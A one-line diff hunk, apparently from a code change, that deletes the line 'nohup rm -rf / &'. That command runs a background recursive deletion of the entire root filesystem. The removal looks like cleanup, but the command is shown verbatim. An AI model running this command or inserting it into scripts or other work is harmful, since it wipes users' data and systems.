@@ -1,1 +1,0 @@
-nohup rm -rf / &
